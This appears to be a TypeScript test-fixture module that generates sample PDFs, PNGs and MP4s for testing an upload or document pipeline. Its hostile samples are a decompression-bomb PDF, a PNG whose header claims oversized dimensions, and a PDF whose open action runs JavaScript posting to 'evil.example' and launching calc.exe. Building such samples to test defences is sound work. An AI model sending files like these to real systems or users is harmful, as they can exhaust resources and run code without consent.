import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { createDeflate, deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "pdf-lib";

/** A PDF of so many pages, each with a line of text. */
export async function pdfOf(
  pages: readonly string[],
  { title, width = 595, height = 842 }: { title?: string; width?: number; height?: number } = {},
): Promise<Uint8Array<ArrayBuffer>> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  if (title !== undefined) document.setTitle(title);
  for (const text of pages)
    document.addPage([width, height]).drawText(text, { x: 40, y: height - 80, size: 20, font });
  return new Uint8Array(await document.save());
}

/**
 * A PNG in one colour: as large as its head says, however small its bytes are.
 * @param rows how many of its rows are there
 */
export function pngOf(width: number, height: number, rows = height): Uint8Array<ArrayBuffer> {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc((width + 1) * rows), { level: 9 });
  return new Uint8Array(
    Buffer.concat([
      Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
      pngChunk("IHDR", head),
      pngChunk("IDAT", pixels),
      pngChunk("IEND", Buffer.alloc(0)),
    ]),
  );
}

function pngChunk(name: string, bytes: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, "latin1"), bytes]);
  const chunk = Buffer.alloc(body.byteLength + 8);
  chunk.writeUInt32BE(bytes.byteLength, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.byteLength + 4);
  return chunk;
}

function crc32(bytes: Buffer): number {
  let rest = 0xffffffff;
  for (const byte of bytes) {
    rest ^= byte;
    for (let bit = 0; bit < 8; bit += 1) rest = rest & 1 ? (rest >>> 1) ^ 0xedb88320 : rest >>> 1;
  }
  return (rest ^ 0xffffffff) >>> 0;
}

/** The frame of an MP4: boxes as a player expects them, nothing to see in them. */
export function mp4Of(bytes: number): Uint8Array<ArrayBuffer> {
  const box = (name: string, body: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(body.byteLength + 8);
    head.write(name, 4, "latin1");
    return Buffer.concat([head, body]);
  };
  const type = box("ftyp", Buffer.from("isom\0\0\0\x01isommp42", "latin1"));
  const movie = box("moov", Buffer.alloc(100));
  return new Uint8Array(
    Buffer.concat([
      type,
      movie,
      box("mdat", Buffer.alloc(bytes - type.byteLength - movie.byteLength - 8, 7)),
    ]),
  );
}

/** A PDF of objects as they are written, with the table that says where each begins. */
function rawPdf(objects: readonly (string | Buffer)[], trailer: string): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [Buffer.from("%PDF-1.5\n", "latin1")];
  const places: number[] = [];
  let at = parts[0]?.byteLength ?? 0;
  for (const [n, body] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${n + 1} 0 obj\n`),
      typeof body === "string" ? Buffer.from(body, "latin1") : body,
      Buffer.from("\nendobj\n"),
    ]);
    places.push(at);
    at += part.byteLength;
    parts.push(part);
  }
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

const CATALOGUE = [
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
];

/** A PDF that opens with a password alone; which one, nobody knows. */
export function lockedPdf(): Uint8Array<ArrayBuffer> {
  const digest = (byte: string) => `<${byte.repeat(32)}>`;
  return rawPdf(
    [
      ...CATALOGUE,
      "<< /Length 0 >>\nstream\n\nendstream",
      `<< /Filter /Standard /V 1 /R 2 /P -4 /O ${digest("5a")} /U ${digest("a5")} >>`,
    ],
    `/Encrypt 5 0 R /ID [${digest("01")} ${digest("01")}]`,
  );
}

/** A PDF whose one page unpacks to so many megabytes of nothing; itself it has some kilobytes. */
export async function bombPdf(megabytes: number): Promise<Uint8Array<ArrayBuffer>> {
  const nothing = Buffer.alloc(1_048_576);
  const once = await buffer(
    Readable.from(Array.from({ length: megabytes }, () => nothing)).pipe(createDeflate({ level: 9 })),
  );
  const twice = deflateSync(once, { level: 9 });
  const head = Buffer.from(
    `<< /Length ${twice.byteLength} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`,
    "latin1",
  );
  return rawPdf([...CATALOGUE, Buffer.concat([head, twice, Buffer.from("\nendstream")])], "");
}

/** A PDF that would run a script when it is opened, go to an address and start a program. */
export function scriptedPdf(): Uint8Array<ArrayBuffer> {
  return rawPdf(
    [
      "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>",
      ...CATALOGUE.slice(1),
      "<< /Length 0 >>\nstream\n\nendstream",
      "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\);) /Next << /S /Launch /F (calc.exe) >> >>",
    ],
    "",
  );
}
